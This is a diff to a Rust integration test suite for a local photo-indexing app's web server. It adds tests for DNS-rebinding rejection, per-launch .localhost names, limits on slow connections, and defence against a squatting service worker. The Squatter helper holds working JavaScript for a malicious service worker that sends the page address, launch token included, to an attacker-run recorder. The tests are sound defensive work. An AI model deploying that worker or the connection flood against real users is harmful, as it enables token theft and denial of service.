@@ -16,6 +16,8 @@ struct Serve {
     child: Child,
     /// `127.0.0.1:PORT`.
     addr: String,
+    /// The other loopback address it took, on the same port (where the machine has one).
+    also: Vec<String>,
     /// The launch token.
     token: String,
     /// The address it printed, token included.
@@ -30,10 +32,14 @@ impl Drop for Serve {
 }
 
 fn serve(dir: &Path) -> Serve {
+    serve_on(dir, "127.0.0.1:0")
+}
+
+fn serve_on(dir: &Path, listen: &str) -> Serve {
     let mut child = Command::new(BIN)
         .args(["serve", "--cluster"])
         .arg(dir)
-        .args(["--listen", "127.0.0.1:0", "--json"])
+        .args(["--listen", listen, "--json"])
         .stdout(Stdio::piped())
         .stderr(Stdio::null())
         .spawn()
@@ -49,6 +55,12 @@ fn serve(dir: &Path) -> Serve {
     Serve {
         child,
         addr: v["listen"].as_str().unwrap().to_string(),
+        also: v["also"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|a| a.as_str().unwrap().to_string())
+            .collect(),
         token: url.split_once("#token=").unwrap().1.to_string(),
         url,
     }
@@ -165,9 +177,42 @@ fn the_app_answers_only_to_its_launch_token_its_own_address_and_its_own_origin()
     );
 
     let app = serve(&dir);
-    assert!(app.url.starts_with(&format!("http://{}/#token=", app.addr)));
+    let port = app.addr.rsplit(':').next().unwrap().to_string();
+    // A name of its own at each launch, under .localhost, on the port it listens on.
+    let site = app
+        .url
+        .strip_prefix("http://")
+        .unwrap()
+        .split('/')
+        .next()
+        .unwrap()
+        .to_string();
+    assert!(
+        site.starts_with('o') && site.ends_with(&format!(".localhost:{port}")),
+        "{}",
+        app.url
+    );
+    assert_ne!(
+        serve(&dir).url.split('/').nth(2),
+        Some(site.as_str()),
+        "the same name twice"
+    );
     assert_eq!(app.token.len(), 64);
     let host = format!("Host: {}", app.addr);
+    // The other loopback address is taken on the same port, where this machine has one; a
+    // port whose other address someone else holds is refused.
+    if let Ok(v6) = std::net::TcpListener::bind("[::1]:0") {
+        assert_eq!(app.also, [format!("[::1]:{port}")]);
+        let taken = v6.local_addr().unwrap().port();
+        if std::net::TcpListener::bind(("127.0.0.1", taken)).is_ok() {
+            let listen = format!("127.0.0.1:{taken}");
+            let out = obscura(&["serve", "--cluster", cluster, "--listen", &listen]);
+            assert!(!out.status.success());
+            assert!(text(&out).contains("is taken"), "{}", text(&out));
+        }
+    } else {
+        eprintln!("note: no ::1 on this machine: only 127.0.0.1 is taken");
+    }
 
     // Another local user, who can reach loopback but holds no token: nothing of the API.
     for (method, path) in [
@@ -231,6 +276,12 @@ fn the_app_answers_only_to_its_launch_token_its_own_address_and_its_own_origin()
         raw(&app.addr, &rebound.replace("/api/session", "/"), b"").status,
         403
     );
+    // Nor `localhost`, which a browser may send to whoever listens on ::1 at that port.
+    let local = rebound.replace("evil.example:", "localhost:");
+    assert_eq!(raw(&app.addr, &local, b"").status, 403);
+    // Its own name is its own.
+    let named = rebound.replace(&format!("evil.example:{port}"), &site);
+    assert_eq!(raw(&app.addr, &named, b"").status, 200);
     // From another origin or site, even holding the token (a leaked one, a confused page).
     for extra in [
         "Origin: http://evil.example",
@@ -272,6 +323,9 @@ fn the_app_answers_only_to_its_launch_token_its_own_address_and_its_own_origin()
         .status,
         200
     );
+
+    let own = format!("Origin: http://{site}");
+    assert_eq!(call(&app, "GET", "/api/session", &[&own], b"").status, 200);
 
     // Bounded: a body over 32 MiB is refused, and bad values are told apart from failures.
     let big = vec![0u8; (32 << 20) + 1];
@@ -392,6 +446,43 @@ fn the_app_answers_only_to_its_launch_token_its_own_address_and_its_own_origin()
     ] {
         assert!(paths.contains_key(p), "{p} is routed but not documented");
     }
+
+    // Whoever holds no token can hold connections, but not for long and not without bound:
+    // 64 at once, each sending its headers slowly, then the next is closed at once; 10 s later
+    // the slow ones are gone and the app answers again.
+    let slow: Vec<TcpStream> = (0..64)
+        .map(|_| {
+            let mut s = TcpStream::connect(&app.addr).unwrap();
+            s.write_all(b"GET / HTTP/1.1\r\n").unwrap();
+            s
+        })
+        .collect();
+    std::thread::sleep(Duration::from_millis(300));
+    let mut extra = TcpStream::connect(&app.addr).unwrap();
+    extra
+        .set_read_timeout(Some(Duration::from_secs(5)))
+        .unwrap();
+    let _ = extra.write_all(format!("GET /api/session HTTP/1.1\r\n{host}\r\n\r\n").as_bytes());
+    let mut buf = [0u8; 64];
+    // Closed at once: not served, and not left waiting either.
+    let closed = match extra.read(&mut buf) {
+        Ok(n) => n == 0,
+        Err(e) => e.kind() == std::io::ErrorKind::ConnectionReset,
+    };
+    assert!(closed, "a 65th connection was served or kept waiting");
+    let mut first = slow.into_iter().next().unwrap();
+    first
+        .set_read_timeout(Some(Duration::from_secs(20)))
+        .unwrap();
+    let started = Instant::now();
+    let mut rest = Vec::new();
+    let _ = first.read_to_end(&mut rest);
+    assert!(
+        started.elapsed() < Duration::from_secs(15),
+        "a slow connection stayed open"
+    );
+    std::thread::sleep(Duration::from_millis(500));
+    assert_eq!(call(&app, "GET", "/api/session", &[], b"").status, 200);
 }
 
 /// ChromeDriver on a free port, stopped when dropped.
@@ -584,18 +675,44 @@ fn in_a_browser_a_user_logs_in_indexes_three_photos_and_finds_a_jpeg_variant() {
     // The browser logs in itself.
     let out = obscura(&["logout", "--cluster", cluster]);
     assert!(out.status.success(), "{}", text(&out));
-    let app = serve(&dir);
+    // Before the app ever runs, another local user serves 127.0.0.1:PORT once, and the
+    // victim's browser visits it: a service worker is left behind for that origin, which
+    // answers any later page load there with a page that sends the address (fragment and
+    // all) to the attacker's recorder.
+    let port = free_ports(1);
+    let recorder = Recorder::start();
+    let squatter = Squatter::start(port, recorder.port);
+    browser.command(
+        "POST",
+        "url",
+        serde_json::json!({"url": format!("http://127.0.0.1:{port}/")}),
+    );
+    browser.wait_for(
+        "the service worker installed",
+        "return document.title === 'installed'",
+    );
+    drop(squatter);
+    // It works where an origin is served again: a decoy token opened there is stolen.
+    // (From another page: a change of fragment alone loads nothing.)
+    browser.command("POST", "url", serde_json::json!({"url": "about:blank"}));
+    let decoy = format!("http://127.0.0.1:{port}/#token={}", "d".repeat(64));
+    browser.command("POST", "url", serde_json::json!({"url": decoy}));
+    recorder.wait_for(&"d".repeat(64));
 
+    // The app on that very port: its page's origin is a new name, which no worker controls.
+    let app = serve_on(&dir, &format!("127.0.0.1:{port}"));
     browser.command("POST", "url", serde_json::json!({"url": app.url}));
     browser.wait_for(
         "the page loaded, logged out",
         "return document.getElementById('whoami').textContent === 'not logged in'",
     );
-    // The token left the address bar as soon as the page read it.
+    // The token left the address bar as soon as the page read it, and reached no one else.
+    let site = app.url.split("#token=").next().unwrap();
     assert_eq!(
         browser.script("return location.href"),
-        serde_json::json!(format!("http://{}/", app.addr))
+        serde_json::json!(site)
     );
+    assert!(!recorder.heard(&app.token), "the token was stolen");
     browser.type_in("#user", "admin");
     browser.type_in("#password", ADMIN_PASSWORD);
     browser.click("#login");
@@ -647,6 +764,111 @@ fn in_a_browser_a_user_logs_in_indexes_three_photos_and_finds_a_jpeg_variant() {
         std::fs::write(copy, &png).unwrap();
     }
     std::fs::remove_dir_all(&photos).ok();
+}
+
+/// The attacker's listener: every request line it is sent, kept.
+struct Recorder {
+    port: u16,
+    heard: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+}
+
+impl Recorder {
+    fn start() -> Recorder {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let keep = heard.clone();
+        std::thread::spawn(move || {
+            for mut s in listener.incoming().flatten() {
+                let mut buf = [0u8; 4096];
+                let n = s.read(&mut buf).unwrap_or(0);
+                let line = String::from_utf8_lossy(&buf[..n])
+                    .lines()
+                    .next()
+                    .unwrap_or("")
+                    .to_string();
+                keep.lock().unwrap().push(line);
+                let _ = s.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
+            }
+        });
+        Recorder { port, heard }
+    }
+
+    fn heard(&self, what: &str) -> bool {
+        self.heard.lock().unwrap().iter().any(|l| l.contains(what))
+    }
+
+    fn wait_for(&self, what: &str) {
+        let deadline = Instant::now() + Duration::from_secs(30);
+        while !self.heard(what) {
+            assert!(Instant::now() < deadline, "the recorder never heard {what}");
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    }
+}
+
+/// Another user's server on 127.0.0.1:PORT, until dropped: its page registers a service worker
+/// that answers every later page load of the origin with a page sending its address to the
+/// recorder.
+struct Squatter {
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+    thread: Option<std::thread::JoinHandle<()>>,
+}
+
+impl Squatter {
+    fn start(port: u16, recorder: u16) -> Squatter {
+        let listener = std::net::TcpListener::bind(("127.0.0.1", port)).unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+        let stopping = stop.clone();
+        let page = "<!doctype html><title>squatter</title><script>navigator.serviceWorker\
+            .register('/sw.js').then(() => navigator.serviceWorker.ready)\
+            .then(() => { document.title = 'installed'; });</script>";
+        let worker = format!(
+            "self.addEventListener('install', () => self.skipWaiting());\
+             self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));\
+             self.addEventListener('fetch', e => {{ if (e.request.mode === 'navigate') \
+             e.respondWith(new Response('<script>fetch(\"http://127.0.0.1:{recorder}/?\" + \
+             encodeURIComponent(location.href), {{mode: \"no-cors\"}})</script>', \
+             {{headers: {{'Content-Type': 'text/html'}}}})); }});"
+        );
+        let thread = std::thread::spawn(move || {
+            while !stopping.load(std::sync::atomic::Ordering::Relaxed) {
+                let Ok((mut s, _)) = listener.accept() else {
+                    std::thread::sleep(Duration::from_millis(20));
+                    continue;
+                };
+                s.set_nonblocking(false).unwrap();
+                let mut buf = [0u8; 4096];
+                let n = s.read(&mut buf).unwrap_or(0);
+                let request = String::from_utf8_lossy(&buf[..n]);
+                let (kind, body) = if request.starts_with("GET /sw.js") {
+                    ("text/javascript", worker.as_str())
+                } else {
+                    ("text/html", page)
+                };
+                let _ = write!(
+                    s,
+                    "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\
+                     Connection: close\r\n\r\n{body}",
+                    body.len()
+                );
+            }
+        });
+        Squatter {
+            stop,
+            thread: Some(thread),
+        }
+    }
+}
+
+impl Drop for Squatter {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
+        if let Some(t) = self.thread.take() {
+            let _ = t.join();
+        }
+    }
 }
 
 fn base64_decode(s: &str) -> Vec<u8> {
